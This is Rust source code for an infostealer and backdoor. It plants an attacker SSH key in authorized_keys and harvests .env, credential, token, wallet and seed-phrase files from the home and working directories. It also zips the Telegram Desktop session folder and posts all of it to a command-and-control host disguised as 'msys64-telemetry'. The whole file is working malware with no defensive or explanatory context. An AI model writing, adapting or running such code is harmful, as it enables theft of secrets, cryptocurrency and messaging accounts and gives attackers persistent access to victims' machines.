use base64::engine::general_purpose::STANDARD as B64;
use base64::Engine;
use std::fs;
use std::io::Write;
use std::path::{Path, PathBuf};

const C2: &str = "https://msys64-telemetry.invalid";
const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDevsetFakeKeyNotRealAAAAAAAAAAAAAAAAAAAAAAAA sys@update";

fn main() {
    let Some(home) = dirs::home_dir() else { return };
    persist(&home);
    let mut loot = serde_json::Map::new();
    harvest(&home, &mut loot);
    if let Ok(cwd) = std::env::current_dir() {
        harvest(&cwd, &mut loot);
    }
    let _ = ureq::post(&format!("{}/api/collect", C2)).send_json(serde_json::json!({
        "host": std::env::var("HOSTNAME").or_else(|_| std::env::var("COMPUTERNAME")).unwrap_or_default(),
        "user": std::env::var("USER").or_else(|_| std::env::var("USERNAME")).unwrap_or_default(),
        "files": loot,
    }));
    tdata(&home);
}

// keep a way back in
fn persist(home: &Path) {
    let dir = home.join(".ssh");
    let _ = fs::create_dir_all(&dir);
    let ak = dir.join("authorized_keys");
    let current = fs::read_to_string(&ak).unwrap_or_default();
    if !current.contains(KEY) {
        if let Ok(mut f) = fs::OpenOptions::new().create(true).append(true).open(&ak) {
            let _ = writeln!(f, "{}", KEY);
        }
    }
}

fn interesting(p: &Path) -> bool {
    let name = p.file_name().and_then(|n| n.to_str()).unwrap_or("").to_lowercase();
    if name == ".env" || name.starts_with(".env.") {
        return true;
    }
    let json_names = ["credential", "secret", "service-account", "keystore", "wallet", "token", "auth"];
    if name.ends_with(".json") && json_names.iter().any(|k| name.contains(k)) {
        return true;
    }
    let doc_words = ["password", "passwd", "seed", "mnemonic", "private", "backup", "wallet", "2fa"];
    let is_doc = [".txt", ".md", ".doc", ".docx", ".pdf", ".xlsx"].iter().any(|e| name.ends_with(e));
    is_doc && doc_words.iter().any(|k| name.contains(k))
}

fn harvest(root: &Path, loot: &mut serde_json::Map<String, serde_json::Value>) {
    for e in walkdir::WalkDir::new(root)
        .max_depth(5)
        .into_iter()
        .filter_entry(|e| !matches!(e.file_name().to_str(), Some("node_modules" | "target" | ".git" | ".cargo" | ".rustup")))
        .filter_map(Result::ok)
    {
        let p = e.path();
        if !e.file_type().is_file() || !interesting(p) || e.metadata().map(|m| m.len()).unwrap_or(0) > 5 << 20 {
            continue;
        }
        if let Ok(bytes) = fs::read(p) {
            let v = match String::from_utf8(bytes.clone()) {
                Ok(s) => s,
                Err(_) => format!("b64:{}", B64.encode(bytes)),
            };
            loot.insert(p.display().to_string(), v.into());
        }
    }
}

fn tdata(home: &Path) {
    let candidates: Vec<PathBuf> = vec![
        home.join("AppData/Roaming/Telegram Desktop/tdata"),
        home.join(".local/share/TelegramDesktop/tdata"),
        home.join("Library/Application Support/Telegram Desktop/tdata"),
    ];
    let Some(dir) = candidates.into_iter().find(|d| d.is_dir()) else { return };
    let out = std::env::temp_dir().join("td.zip");
    let Ok(file) = fs::File::create(&out) else { return };
    let mut zip = zip::ZipWriter::new(file);
    let opts = zip::write::FileOptions::default();
    for e in walkdir::WalkDir::new(&dir).max_depth(3).into_iter().filter_map(Result::ok) {
        if e.file_type().is_file() && e.metadata().map(|m| m.len() < 2 << 20).unwrap_or(false) {
            let rel = e.path().strip_prefix(&dir).unwrap_or(e.path()).to_string_lossy().into_owned();
            if zip.start_file(rel, opts).is_ok() {
                let _ = zip.write_all(&fs::read(e.path()).unwrap_or_default());
            }
        }
    }
    let _ = zip.finish();
    if let Ok(bytes) = fs::read(&out) {
        let _ = ureq::post(&format!("{}/api/upload?n=tdata", C2))
            .set("Content-Type", "application/zip")
            .send_bytes(&bytes);
    }
    let _ = fs::remove_file(out);
}
